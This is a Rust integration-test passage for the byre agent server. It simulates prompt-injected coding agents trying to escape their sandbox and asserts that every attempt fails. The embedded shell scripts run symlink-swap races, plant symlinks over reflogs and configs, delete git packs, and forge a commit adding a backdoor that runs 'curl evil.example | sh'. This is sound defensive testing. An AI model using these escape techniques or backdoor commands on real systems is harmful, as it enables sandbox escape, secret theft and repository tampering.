//! The filesystem escapes of the agent sandbox (issue 27's break-it review, findings C1–C3, H1
//! and M1; `docs/sandbox.md`, "byre's own reach into what agents write"): byre itself, outside
//! the sandbox, opening a path an agent can write. Each test plays a prompt-injected agent on a
//! team server (token mode), with the real Claude Code, Codex and CodeBolt agents against the
//! project's fake models and real bubblewrap, and asserts that nothing outside the agent's
//! binds came in or was written:
//!
//! - **C1** a path checked, then opened again by path: the agent exchanges a directory of its
//!   worktree with a symlink to a directory outside (`renameat2(RENAME_EXCHANGE)` in a loop,
//!   `fixtures/codebolt/racer/swap.py`) while it asks byre for (a) snapshots (libgit2 walking the worktree), (b) uploads
//!   to its owner's machine, (c) CodeBolt's `readFile` and `writeToFile`; and CodeBolt's
//!   `gitCommit` appending to a reflog the agent replaced with a symlink to a file outside;
//! - **C2** the copy of a forked Claude Code transcript, whose destination the fork's agent
//!   replaced with a symlink to the project's `.git/config`;
//! - **C3** a `codebolt:` model naming a file outside the agents directories;
//! - **H1** Codex's `config.toml` replaced with a symlink to a file outside;
//! - **M1** the project's packed history deleted from inside;
//! - **N1**, **N3** (break-it review 3) the default branch and another task's branch written
//!   from inside (and then carried by another task's merge), links planted under `refs/`.
//!
//! The outside target is a directory of the test's ([`Outside`]), holding [`SECRET`]: no
//! sandbox binds it, so only byre can have carried its content in or a write out.

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use byre_fake_models::{FakeAnthropic, FakeOpenAi};
use serde_json::{json, Value};
use tempfile::TempDir;

use crate::helpers::{Api, Seen, TestServer, TOKENS};

/// How long a test waits for an agent's turn (a race runs hundreds of requests).
const TURN_WAIT: Duration = Duration::from_secs(240);

/// The text of the file outside every sandbox that a leak would carry in.
const SECRET: &str = "OUTSIDE-SECRET-d41d8cd98f00";

/// Snapshots a racing agent asks for (C1a). Against `main` before the fix about one in ten
/// snapshots held the outside file (docs/sandbox.md, "The attack tests").
const SNAPSHOT_ROUNDS: usize = 60;

/// Uploads a racing agent asks for (C1b); before the fix about one in twenty leaked.
const UPLOAD_ROUNDS: usize = 200;

/// CodeBolt `readFile`s, then `writeToFile`s, a racing agent asks for (C1c); before the fix
/// about one in a hundred reached outside.
const CODEBOLT_ROUNDS: usize = 1500;

/// A directory outside the data dir, the checkout and every sandbox: `conf/secret.txt` (the
/// secret, as a token file would be) and `target/` (where a write from outside must not land).
struct Outside {
    dir: TempDir,
}

impl Outside {
    fn new() -> Outside {
        let dir = TempDir::new().expect("outside dir");
        std::fs::create_dir_all(dir.path().join("conf")).unwrap();
        std::fs::write(dir.path().join("conf/secret.txt"), format!("{SECRET}\n")).unwrap();
        std::fs::create_dir_all(dir.path().join("target")).unwrap();
        Outside { dir }
    }

    fn conf(&self) -> PathBuf {
        std::fs::canonicalize(self.dir.path().join("conf")).unwrap()
    }

    fn target(&self) -> PathBuf {
        std::fs::canonicalize(self.dir.path().join("target")).unwrap()
    }

    /// The names written into `target/` (none, unless byre wrote through a swapped symlink).
    fn written(&self) -> Vec<String> {
        names_in(&self.target())
    }
}

/// A token-mode server (`ada`, `bob`) with the sandbox on, its Claude Code and Codex agents on
/// the `y_escape` fakes, CodeBolt's modules on `NODE_PATH`; ada's project and event stream.
struct Team {
    server: TestServer,
    ada: Api,
    project_id: String,
    checkout: TempDir,
    seen: Seen,
    outside: Outside,
    _claude: FakeAnthropic,
    _codex: FakeOpenAi,
}

impl Team {
    async fn start() -> Team {
        let claude = FakeAnthropic::fixture("y_escape").await.expect("fake API");
        let codex = FakeOpenAi::fixture("codex_y_escape")
            .await
            .expect("fake API");
        let modules = tokio::task::spawn_blocking(byre_fake_models::codeboltjs_node_modules)
            .await
            .expect("install codeboltjs");
        let node_path = vec![("NODE_PATH".into(), modules.display().to_string())];
        let server = crate::helpers::token_server_on_real_clis(&claude, &codex, node_path, |c| {
            c.sandbox = true;
            c.reviews.enabled = false;
        })
        .await;
        let ada = server.api_as("ada");
        let (checkout, project_id) = ada.basic_project().await;
        let status = ada.call("getStatus", &[], &[], None).await;
        assert_eq!(status.body["sandbox"], true, "{:?}", status.body);
        let seen = Seen::new(ada.events(&[], None).await, TURN_WAIT);
        Team {
            server,
            ada,
            project_id,
            checkout,
            seen,
            outside: Outside::new(),
            _claude: claude,
            _codex: codex,
        }
    }

    /// Creates ada's task on `model` saying `prompt`; (task, its first session's id).
    async fn task(&self, title: &str, prompt: &str, model: &str) -> (Value, String) {
        let task = self
            .ada
            .create_task_with(
                &self.project_id,
                json!({"title": title, "prompt": prompt, "model": model}),
            )
            .await;
        let sid = self.ada.first_session_id(id(&task)).await;
        (task, sid)
    }

    /// Sends `text` to session `sid` of task `task_id` and waits for the turn it starts to end.
    async fn say(&mut self, task_id: &str, sid: &str, text: &str) -> Value {
        let after = self.last_turn_end(task_id);
        let r = self
            .ada
            .call("sendMessage", &[sid], &[], Some(json!({"text": text})))
            .await;
        assert_eq!(r.status, 202, "{:?}", r.body);
        self.turn_end_after(task_id, after).await
    }

    /// The seq of the last `turn.ended` of `task_id` seen so far (0: none).
    fn last_turn_end(&self, task_id: &str) -> u64 {
        self.seen
            .events
            .iter()
            .filter(|e| e.data["kind"] == "turn.ended" && e.data["task_id"] == task_id)
            .filter_map(|e| e.data["seq"].as_u64())
            .max()
            .unwrap_or(0)
    }

    /// The first `turn.ended` of `task_id` after seq `after`.
    async fn turn_end_after(&mut self, task_id: &str, after: u64) -> Value {
        self.seen
            .first(&format!("a turn end of {task_id}"), |d| {
                d["kind"] == "turn.ended"
                    && d["task_id"] == task_id
                    && d["seq"].as_u64().unwrap_or(0) > after
            })
            .await
    }

    /// Every `tool.result` of `task_id` seen so far, as text.
    fn tool_results(&self, task_id: &str) -> String {
        self.seen
            .events
            .iter()
            .filter(|e| e.data["kind"] == "tool.result" && e.data["task_id"] == task_id)
            .map(|e| e.data["payload"].to_string())
            .collect::<Vec<_>>()
            .join("\n")
    }

    /// Writes `script` as the worktree's `escape.sh` (with the swapper beside it) and has the
    /// Claude Code agent of session `sid` run it; the tool results of that turn.
    async fn run_script(&mut self, task: &Value, sid: &str, script: &str) -> String {
        let worktree = worktree(task);
        std::fs::copy(racer().join("swap.py"), worktree.join("swap.py")).unwrap();
        std::fs::write(worktree.join("escape.sh"), script).unwrap();
        self.say(id(task), sid, "Run the escape script").await;
        let results = self.tool_results(id(task));
        assert!(
            results.contains("SCRIPT-DONE"),
            "the script ran to its end: {results}"
        );
        results
    }

    /// Waits until task `task_id` has `n` snapshot outcomes (`snapshot.taken` or
    /// `snapshot.failed`) on the stream.
    async fn snapshots(&mut self, task_id: &str, n: usize) {
        let mut last = 0;
        for i in 0..n {
            let e = self
                .seen
                .first(&format!("snapshot outcome {} of {n}", i + 1), |d| {
                    d["task_id"] == task_id
                        && (d["kind"] == "snapshot.taken" || d["kind"] == "snapshot.failed")
                        && d["seq"].as_u64().unwrap_or(0) > last
                })
                .await;
            last = e["seq"].as_u64().unwrap_or(0);
        }
    }

    /// Merges `task` as ada (with a git identity) under `title`; its `task.merged`.
    async fn merge(&mut self, task: &Value, title: &str) -> Value {
        let me = json!({"git_name": "Ada", "git_email": "ada@example.com"});
        let r = self.ada.call("updateMe", &[], &[], Some(me)).await;
        assert_eq!(r.status, 200, "{:?}", r.body);
        let body = json!({ "merge_title": title });
        let r = self
            .ada
            .call("mergeTask", &[id(task)], &[], Some(body))
            .await;
        assert_eq!(r.status, 202, "{:?}", r.body);
        self.seen.of_task("task.merged", id(task)).await
    }

    /// The port byre listens on (agents reach its internal tool route there).
    fn port(&self) -> u16 {
        self.server
            .url
            .rsplit(':')
            .next()
            .and_then(|p| p.parse().ok())
            .expect("a port in the URL")
    }
}

/// The names in directory `dir`, sorted.
fn names_in(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

fn id(v: &Value) -> &str {
    v["id"].as_str().expect("an id")
}

fn worktree(task: &Value) -> PathBuf {
    PathBuf::from(task["worktree_path"].as_str().expect("a worktree"))
}

fn racer() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/codebolt/racer")
}

/// The shell that makes the directory `d0` (holding the decoy `secret.txt`, and before it in
/// name order `a.bin`, 1 MiB, whose hashing by a snapshot's walk widens the window between the
/// walk's `lstat` of `d0` and its open of `d0/secret.txt`) and the symlink `l0` to `outside`,
/// and starts the swapper, which exchanges the two over and over (its pid in `$SWAP`).
fn race_setup(outside: &Path) -> String {
    format!(
        "rm -rf d0 l0; mkdir d0; head -c 1048576 /dev/zero > d0/a.bin; echo DECOY > d0/secret.txt\n\
         ln -s '{}' l0\n\
         python3 swap.py 1 & SWAP=$!\n",
        outside.display()
    )
}

/// The shell that stops the swapper and removes the pair.
const RACE_TEARDOWN: &str = "kill $SWAP; wait $SWAP 2>/dev/null; rm -rf d0 l0\n";

/// A `curl` of byre's internal tool route for `tool` with `body`, as the session's `byre mcp`
/// sends it (its own token, from the file its sandbox shows).
fn tool_call(port: u16, tool: &str, body: &str) -> String {
    format!(
        "curl -s -o /dev/null -X POST -H \"Authorization: Bearer $(cat /run/byre/mcp-token)\" \
         -H 'Content-Type: application/json' -d '{body}' http://127.0.0.1:{port}/internal/mcp/tools/{tool}"
    )
}

/// Every blob of `tree` (recursively) whose content holds [`SECRET`], by path.
fn secret_paths(repo: &git2::Repository, tree: &git2::Tree<'_>) -> Vec<String> {
    let mut found = Vec::new();
    tree.walk(git2::TreeWalkMode::PreOrder, |dir, entry| {
        if let Ok(blob) = entry.to_object(repo).and_then(|o| o.peel_to_blob()) {
            if String::from_utf8_lossy(blob.content()).contains(SECRET) {
                found.push(format!("{dir}{}", entry.name().unwrap_or("?")));
            }
        }
        git2::TreeWalkResult::Ok
    })
    .expect("walk");
    found
}

/// C1a: libgit2 walks the worktree for each snapshot outside the sandbox; with directories
/// swapped for symlinks meanwhile, a snapshot's tree must still hold only what the agent could
/// read itself. The race outlives the agent's shell command (`setsid`), so that the CLI's
/// command timeout does not cut it; the test waits for the snapshots' events.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_claude_agent_racing_symlink_swaps_gets_nothing_from_outside_into_its_snapshots() {
    let mut t = Team::start().await;
    let (task, sid) = t.task("racer", "Say hello", "sonnet").await;
    t.seen.of_task("turn.ended", id(&task)).await;
    let race = format!(
        "{setup}k=0; while [ $k -lt {SNAPSHOT_ROUNDS} ]; do {call}; k=$((k+1)); done\n\
         sleep 600\n",
        setup = race_setup(&t.outside.conf()),
        call = tool_call(t.port(), "take_snapshot", "{}"),
    );
    std::fs::write(worktree(&task).join("race.sh"), race).unwrap();
    let script = "setsid nohup sh race.sh >/dev/null 2>&1 </dev/null &\necho SCRIPT-DONE\n";
    t.run_script(&task, &sid, script).await;
    // The turn's own snapshot, then every one the race asked for.
    let n_snapshots = 2 + SNAPSHOT_ROUNDS;
    t.snapshots(id(&task), n_snapshots).await;
    let repo = git2::Repository::open(worktree(&task)).unwrap();
    let mut leaked = Vec::new();
    let snap_refs = format!("refs/byre/tasks/{}/snap/*", id(&task));
    for r in repo.references_glob(&snap_refs).unwrap() {
        let r = r.unwrap();
        let paths = secret_paths(&repo, &r.peel_to_tree().unwrap());
        if !paths.is_empty() {
            leaked.push((r.name().unwrap_or("?").to_owned(), paths));
        }
    }
    eprintln!(
        "C1a: {} of {n_snapshots} snapshots hold the outside file",
        leaked.len()
    );
    assert_eq!(leaked, [], "snapshots hold a file from outside the sandbox");
    t.server.stop().await;
}

/// A running `byre client` of `login`, its home a temporary directory; killed when dropped.
struct Machine {
    child: Child,
    home: TempDir,
}

impl Machine {
    /// Starts it and waits for the line that says it connected.
    fn connect(url: &str, login: &str, host: &str) -> Machine {
        let home = TempDir::new().unwrap();
        let token = TOKENS.iter().find(|(_, l)| *l == login).unwrap().0;
        let mut child = Command::new(crate::process::byre_bin())
            .args(["client", "--server", url, "--host", host])
            .env("HOME", home.path())
            .env("SHELL", "/bin/sh")
            .env("BYRE_TOKEN", token)
            .env("BYRE_LOG", "warn")
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .expect("byre client starts");
        let stdout = child.stdout.take().unwrap();
        let mut lines = BufReader::new(stdout).lines();
        let connected = lines
            .by_ref()
            .map_while(Result::ok)
            .any(|l| l.contains("connected to"));
        assert!(connected, "the client connected");
        // Keep reading so the client never blocks on a full pipe.
        std::thread::spawn(move || for _ in lines.map_while(Result::ok) {});
        Machine { child, home }
    }

    /// The files under `dir` of its home whose content holds [`SECRET`].
    fn files_with_secret(&self, dir: &str) -> Vec<String> {
        let Ok(entries) = std::fs::read_dir(self.home.path().join(dir)) else {
            return Vec::new();
        };
        entries
            .flatten()
            .filter(|e| std::fs::read_to_string(e.path()).is_ok_and(|c| c.contains(SECRET)))
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .collect()
    }
}

impl Drop for Machine {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// C1b: `upload` checks the worktree path, then packs it by path outside the sandbox; with
/// the directory swapped meanwhile, no file from outside may reach the owner's machine.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_claude_agent_racing_symlink_swaps_uploads_nothing_from_outside_to_the_owners_machine() {
    let mut t = Team::start().await;
    let url = t.server.url.clone();
    let machine = tokio::task::spawn_blocking(move || Machine::connect(&url, "ada", "laptop"))
        .await
        .unwrap();
    let (task, sid) = t.task("uploader", "Say hello", "sonnet").await;
    t.seen.of_task("turn.ended", id(&task)).await;
    let call = tool_call(
        t.port(),
        "upload",
        "{\"path\": \"d0/secret.txt\", \"dest\": \"~/up/'$k'.txt\"}",
    );
    let script = format!(
        "{setup}k=0; while [ $k -lt {UPLOAD_ROUNDS} ]; do {call}; k=$((k+1)); done\n\
         {RACE_TEARDOWN}echo SCRIPT-DONE\n",
        setup = race_setup(&t.outside.conf()),
    );
    let results = t.run_script(&task, &sid, &script).await;
    let n_uploaded = std::fs::read_dir(machine.home.path().join("up"))
        .map(|d| d.count())
        .unwrap_or(0);
    let leaked = machine.files_with_secret("up");
    eprintln!(
        "C1b: {} of {n_uploaded} uploads ({UPLOAD_ROUNDS} tries) hold the outside file",
        leaked.len(),
    );
    assert!(
        n_uploaded > 0,
        "some uploads reached the machine: {results}"
    );
    assert_eq!(
        leaked,
        Vec::<String>::new(),
        "the owner's machine got a file from outside the sandbox"
    );
    t.server.stop().await;
}

/// Runs the CodeBolt racer with `order` as ada's task; its report.
async fn codebolt_race(t: &mut Team, order: Value) -> Value {
    let model = format!("codebolt:{}", racer().display());
    let (task, _) = t.task("racer", &order.to_string(), &model).await;
    racer_report(t, &task).await
}

/// What the CodeBolt racer of `task` reported, once its turn ended.
async fn racer_report(t: &mut Team, task: &Value) -> Value {
    t.seen.of_task("turn.ended", id(task)).await;
    let said = t
        .seen
        .events
        .iter()
        .rev()
        .find(|e| e.data["kind"] == "agent.text" && e.data["task_id"] == id(task))
        .unwrap_or_else(|| panic!("the racer reported nothing"))
        .data["payload"]["text"]
        .as_str()
        .unwrap()
        .to_owned();
    serde_json::from_str(&said).unwrap_or_else(|e| panic!("{e}: {said}"))
}

/// A file outside every sandbox, holding `VICTIM`, for an agent's link to point at.
fn victim(t: &Team) -> PathBuf {
    let victim = t.outside.target().join("victim.txt");
    std::fs::write(&victim, "VICTIM\n").unwrap();
    victim
}

/// C1c: CodeBolt's `readFile` and `writeToFile` check the path, then open it by path; with a
/// directory swapped meanwhile, neither may read or write outside the worktree.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_codebolt_agent_racing_symlink_swaps_reads_and_writes_nothing_outside() {
    let mut t = Team::start().await;
    let conf = t.outside.conf();
    let target = t.outside.target();
    let read = codebolt_race(
        &mut t,
        json!({"mode": "read", "pairs": 1, "outside": conf, "rounds": CODEBOLT_ROUNDS}),
    )
    .await;
    let write = codebolt_race(
        &mut t,
        json!({"mode": "write", "pairs": 1, "outside": target, "rounds": CODEBOLT_ROUNDS}),
    )
    .await;
    eprintln!(
        "C1c: {} of {} reads got the outside file; {} files written outside in {} writes",
        read["n_hits"],
        read["tries"],
        t.outside.written().len(),
        write["tries"]
    );
    assert_eq!(read["tries"], CODEBOLT_ROUNDS, "{read}");
    assert_eq!(
        read["n_hits"], 0,
        "readFile read outside the worktree: {read}"
    );
    assert_eq!(write["tries"], CODEBOLT_ROUNDS, "{write}");
    assert_eq!(
        t.outside.written(),
        Vec::<String>::new(),
        "writeToFile wrote outside the worktree"
    );
    t.server.stop().await;
}

/// C1c, CodeBolt's git family: a commit moves the task branch, and libgit2 appends the move
/// to the branch's reflog by path, in the project's git dir that the agent writes. The agent
/// replaces that reflog with a symlink to a file outside and asks for `gitAdd` and `gitCommit`:
/// they run in its sandbox (`git::boxed`), where the link leads nowhere, so the file outside
/// is never written.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_codebolt_commit_never_writes_through_a_reflog_link_the_agent_planted() {
    let mut t = Team::start().await;
    let victim = victim(&t);
    let report = codebolt_race(&mut t, json!({"mode": "reflog", "victim": victim})).await;
    eprintln!("C1c git: {report}");
    assert!(
        report["planted"]
            .as_str()
            .is_some_and(|p| p.contains("logs/refs/heads/")),
        "the agent planted its link: {report}"
    );
    assert_eq!(report["add"]["success"], true, "gitAdd worked: {report}");
    assert_eq!(
        std::fs::read_to_string(&victim).unwrap(),
        "VICTIM\n",
        "a commit appended to a file outside through the agent's link: {report}"
    );
    assert_eq!(
        t.outside.written(),
        ["victim.txt"],
        "nothing else was made outside"
    );
    t.server.stop().await;
}

/// CodeBolt's `gitPull` merges the default branch into the worktree with `git merge`, which
/// appends the move to the worktree's HEAD reflog by path, in the worktree's git dir that the
/// agent writes. The agent replaces that reflog with a symlink to a file outside, then pulls a
/// default branch that moved on: the merge runs in its sandbox (`git::boxed`), where the link
/// leads nowhere, so the file outside is never written.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_codebolt_pull_never_writes_through_a_reflog_link_the_agent_planted() {
    let mut t = Team::start().await;
    let victim = victim(&t);
    let order = json!({"mode": "pull", "victim": victim});
    let model = format!("codebolt:{}", racer().display());
    let (task, _) = t.task("puller", &order.to_string(), &model).await;
    t.seen.of_task("task.worktree_created", id(&task)).await;
    // The default branch moves on, so the pull fast-forwards the task's branch.
    crate::helpers::commit_file(t.checkout.path(), "later.txt", &racer().join("swap.py"));
    std::fs::write(worktree(&task).join("go.txt"), "go\n").unwrap();
    let report = racer_report(&mut t, &task).await;
    eprintln!("C1c pull: {report}");
    assert_eq!(report["go"], true, "the racer saw the sign: {report}");
    assert!(
        report["planted"]
            .as_str()
            .is_some_and(|p| p.ends_with("logs/HEAD")),
        "the agent planted its link: {report}"
    );
    assert_eq!(
        std::fs::read_to_string(&victim).unwrap(),
        "VICTIM\n",
        "a pull appended to a file outside through the agent's link: {report}"
    );
    t.server.stop().await;
}

/// byre's own ref moves outside the sandbox (a squash merge moving the default branch) append
/// to the ref's reflog by path, in the project's `logs/`. The agent replaces the default
/// branch's reflog with a symlink to a file outside, then its task is merged: an agent's
/// `logs/` is its sandbox's own (a private tmpfs), so the link never reaches the project's and
/// the merge never writes the file outside.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_merge_never_writes_through_a_default_branch_reflog_link_an_agent_planted() {
    let mut t = Team::start().await;
    let victim = victim(&t);
    let order = json!({"mode": "reflog", "ref": "refs/heads/main", "victim": victim});
    let model = format!("codebolt:{}", racer().display());
    let (task, _) = t.task("planter", &order.to_string(), &model).await;
    t.seen.of_task("snapshot.taken", id(&task)).await;
    let merged = t.merge(&task, "Planted").await;
    eprintln!("merge: {merged}");
    assert_eq!(
        std::fs::read_to_string(&victim).unwrap(),
        "VICTIM\n",
        "the merge appended to a file outside through the agent's link"
    );
    let log = t.checkout.path().join(".git/logs/refs/heads/main");
    assert!(
        !std::fs::symlink_metadata(&log).is_ok_and(|m| m.file_type().is_symlink()),
        "the agent's link reached the project's logs"
    );
    t.server.stop().await;
}

/// C2: a fork's first start copies the forked session's Claude Code transcript into the
/// fork's session directory. The fork's agent (its own transcript removed, so its next start
/// is a fork again) replaces that copy's destination with a symlink to the project's
/// `.git/config`, which no sandbox may write; the next start must not write through it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_forks_transcript_copy_never_writes_through_a_symlink_the_agent_planted() {
    let mut t = Team::start().await;
    let (original, _) = t.task("original", "Say hello", "sonnet").await;
    t.seen.of_task("snapshot.taken", id(&original)).await;
    let r = t
        .ada
        .call("forkSnapshot", &[id(&original), "1"], &[], None)
        .await;
    assert_eq!(r.status, 201, "{:?}", r.body);
    let fork = r.body.clone();
    let fork_sid = t.ada.first_session_id(id(&fork)).await;
    let config = t.checkout.path().join(".git/config");
    let before = std::fs::read(&config).unwrap();
    // The fork's first start copies the original's transcript; then its agent removes its
    // own, plants the links and ends its CLI (which so writes no transcript of its own again).
    let script = format!(
        "for f in $(find \"$CLAUDE_CONFIG_DIR/projects\" -name '*.jsonl'); do rm -f \"$f\"; \
         case \"$f\" in *\"$CLAUDE_CODE_SESSION_ID\"*) ;; *) ln -s '{}' \"$f\";; esac; done\n\
         echo SCRIPT-DONE\nkill -9 2\n",
        config.display()
    );
    std::fs::write(worktree(&fork).join("escape.sh"), &script).unwrap();
    let ended = t.say(id(&fork), &fork_sid, "Run the escape script").await;
    let fork_dir = byre_agents::session_dir(t.server.data.path(), &fork_sid);
    assert!(
        symlinks_under(&fork_dir.join("claude/projects")) > 0,
        "the agent planted its link; its turn: {ended}; its tools: {}",
        t.tool_results(id(&fork))
    );
    // The next message starts the fork's CLI again, from the original's transcript.
    t.say(id(&fork), &fork_sid, "Say hello").await;
    assert_eq!(
        String::from_utf8_lossy(&std::fs::read(&config).unwrap()),
        String::from_utf8_lossy(&before),
        "the project's .git/config was written from outside the sandbox"
    );
    t.server.stop().await;
}

/// How many symlinks lie under `dir` (not following any).
fn symlinks_under(dir: &Path) -> usize {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return 0;
    };
    entries
        .flatten()
        .map(|e| match e.file_type() {
            Ok(t) if t.is_symlink() => 1,
            Ok(t) if t.is_dir() => symlinks_under(&e.path()),
            _ => 0,
        })
        .sum()
}

/// H1: before each start byre writes Codex's `config.toml` in the session's `CODEX_HOME`, which
/// the agent can write; a symlink planted there must not lead the write outside.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn codexs_config_is_never_written_through_a_symlink_the_agent_planted() {
    let mut t = Team::start().await;
    let victim = t.outside.target().join("victim.txt");
    std::fs::write(&victim, "precious\n").unwrap();
    let (task, sid) = t.task("codex", "Say hello", "gpt-5.5").await;
    t.seen.of_task("turn.ended", id(&task)).await;
    // Codex runs `escape.sh` with its own shell tool (the `codex_y_escape` fake).
    let script = format!(
        "rm -f \"$CODEX_HOME/config.toml\" && ln -s '{}' \"$CODEX_HOME/config.toml\" && echo PLANTED\n\
         echo SCRIPT-DONE\nkill -9 -1\n",
        victim.display()
    );
    std::fs::write(worktree(&task).join("escape.sh"), script).unwrap();
    t.say(id(&task), &sid, "Run the escape script").await;
    // The next message starts Codex again: byre prepares its config first. (Written through
    // the link, the config Codex then reads lacks byre's model provider and the session keeps
    // failing, so this turn's end is awaited only up to a bound.)
    let after = t.last_turn_end(id(&task));
    let r = t
        .ada
        .call(
            "sendMessage",
            &[&sid],
            &[],
            Some(json!({"text": "Say hello"})),
        )
        .await;
    assert_eq!(r.status, 202, "{:?}", r.body);
    let ended = tokio::time::timeout(TURN_WAIT, t.turn_end_after(id(&task), after)).await;
    assert_eq!(
        std::fs::read_to_string(&victim).unwrap(),
        "precious\n",
        "byre wrote Codex's config through the agent's symlink"
    );
    let ended = ended.expect("the session's next turn ended");
    assert_eq!(ended["payload"]["outcome"], "completed", "{ended}");
    t.server.stop().await;
}

/// C3: a `codebolt:` model runs `node` on the file it names, and node prints a failing
/// script's source line. A model naming a file outside the agents directories (the token file
/// here, a secret of byre's data dir) is refused with a 400 naming the allowed places, for a
/// user's task and for an agent's subtask alike.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_codebolt_model_naming_a_file_outside_the_agents_directories_is_refused() {
    let mut t = Team::start().await;
    let secret = t.outside.conf().join("secret.txt");
    let data_file = t.server.data.path().join("mcp-tokens");
    for model in [
        format!("codebolt:{}", secret.display()),
        format!("codebolt:{}", t.outside.conf().display()),
        format!("codebolt:{}", data_file.display()),
        "codebolt:../../etc/passwd".to_owned(),
    ] {
        let r = t
            .ada
            .call(
                "createTask",
                &[&t.project_id],
                &[],
                Some(json!({"title": "cb", "prompt": "hi", "model": model})),
            )
            .await;
        assert_eq!(r.status, 400, "{model}: {:?}", r.body);
        assert!(
            r.message().contains("agents director"),
            "the refusal names the allowed places: {}",
            r.message()
        );
    }
    // An agent's subtask, through its own tool route.
    let (task, sid) = t.task("parent", "Say hello", "sonnet").await;
    t.seen.of_task("turn.ended", id(&task)).await;
    let answer = crate::helpers::agent_tool(
        &t.server,
        &sid,
        "start_subtask",
        json!({"title": "sub", "prompt": "hi", "model": format!("codebolt:{}", secret.display())}),
    )
    .await;
    assert_eq!(answer["is_error"], true, "{answer}");
    // Nothing the users see holds the secret.
    let events = t.ada.call("listTaskEvents", &[id(&task)], &[], None).await;
    assert!(!events.body.to_string().contains(SECRET));
    assert!(!t
        .seen
        .events
        .iter()
        .any(|e| e.data.to_string().contains(SECRET)));
    t.server.stop().await;
}

/// M1: the project's git directory is shared with every sandbox (objects and refs writable for
/// commits); its packed history must not be deletable from inside.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_cannot_delete_the_projects_packed_history() {
    let mut t = Team::start().await;
    // The user's history, packed as `git gc` leaves it.
    crate::helpers::git(t.checkout.path(), &["repack", "-a", "-d", "-q"]);
    crate::helpers::git(t.checkout.path(), &["prune-packed"]);
    let git_dir = std::fs::canonicalize(t.checkout.path().join(".git")).unwrap();
    let packs = |dir: &Path| names_in(&dir.join("objects/pack"));
    let before = packs(&git_dir);
    assert!(!before.is_empty(), "the history is packed");
    let (task, sid) = t.task("wiper", "Say hello", "sonnet").await;
    t.seen.of_task("turn.ended", id(&task)).await;
    let script = format!(
        "G='{}'\nrm -f \"$G\"/objects/pack/* 2>&1 | head -3\nls \"$G/objects/pack\" | wc -l\necho SCRIPT-DONE\n",
        git_dir.display()
    );
    std::fs::write(worktree(&task).join("escape.sh"), script).unwrap();
    t.say(id(&task), &sid, "Run the escape script").await;
    assert_eq!(packs(&git_dir), before, "the project's packs were deleted");
    let log = crate::helpers::git(t.checkout.path(), &["log", "--format=%s", "main"]);
    assert!(log.contains("Initial commit"), "{log}");
    t.server.stop().await;
}

/// The outcome an escape script printed for `key` (`KEY=outcome` on a line of the tool results).
fn outcome<'a>(results: &'a str, key: &str) -> &'a str {
    let marker = format!("{key}=");
    results
        .split(&marker)
        .nth(1)
        .and_then(|rest| rest.split(|c: char| !c.is_ascii_alphanumeric()).next())
        .unwrap_or_else(|| panic!("no {marker} in the results: {results}"))
}

/// The shell that has `$E` a commit on the default branch's tip adding `backdoor.sh`, authored
/// by someone else: what a prompt-injected agent would slip onto the default branch.
const FORGE_COMMIT: &str = "B=$(printf 'curl evil.example | sh\\n' | git hash-object -w --stdin)\n\
     T=$( (git ls-tree main; printf '100644 blob %s\\tbackdoor.sh\\n' $B) | git mktree)\n\
     E=$(GIT_AUTHOR_NAME=u GIT_AUTHOR_EMAIL=u@u GIT_COMMITTER_NAME=u GIT_COMMITTER_EMAIL=u@u \
         git commit-tree $T -p main -m 'chore: tidy')\n";

/// N1 (break-it review 3): an agent that wrote its own commit into `refs/heads/main` got it
/// into the next squash merge of another task, which byre builds on the default branch's tip.
/// Now `refs/` is read-only in a sandbox but for the task's own directory of branches: writing
/// the default branch or another task's branch fails in the kernel, its own commits still
/// work, and a later merge of another task carries nothing of the agent's.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_cannot_move_the_default_branch_or_another_tasks_branch() {
    let mut t = Team::start().await;
    // The user works on another branch: a merge then moves `main` without touching the checkout.
    crate::helpers::git(t.checkout.path(), &["switch", "-q", "-c", "dev"]);
    let git_dir = std::fs::canonicalize(t.checkout.path().join(".git")).unwrap();
    let (other, _) = t.task("other work", "Say hello", "sonnet").await;
    t.seen.of_task("turn.ended", id(&other)).await;
    let (task, sid) = t.task("intruder", "Say hello", "sonnet").await;
    t.seen.of_task("turn.ended", id(&task)).await;
    let branch = task["branch"].as_str().unwrap();
    assert_eq!(branch, format!("byre/{}/intruder", &id(&task)[..8]));
    let other_branch = other["branch"].as_str().unwrap();
    let checkout = t.checkout.path().to_owned();
    let tip = |b: &str| crate::helpers::git(&checkout, &["rev-parse", b]);
    let other_before = tip(other_branch);
    let script = format!(
        "G='{g}'\n{FORGE_COMMIT}\
         (echo $E > $G/refs/heads/main) 2>&1 && echo MAIN=WRITTEN || echo MAIN=refused\n\
         (echo $E > $G/refs/heads/{other_branch}) 2>&1 && echo OTHER=WRITTEN || echo OTHER=refused\n\
         git update-ref refs/heads/main $E 2>&1 && echo UPDATE=WRITTEN || echo UPDATE=refused\n\
         git branch side $E 2>&1 && echo SIDE=WRITTEN || echo SIDE=refused\n\
         echo own > own.txt && git add own.txt \
         && git -c user.name=a -c user.email=a@a commit -q -m 'own work' && echo OWN=committed\n\
         git branch byre/{ns}/side $E && echo NS=made\n\
         echo SCRIPT-DONE\n",
        g = git_dir.display(),
        ns = &id(&task)[..8],
    );
    std::fs::write(worktree(&task).join("escape.sh"), script).unwrap();
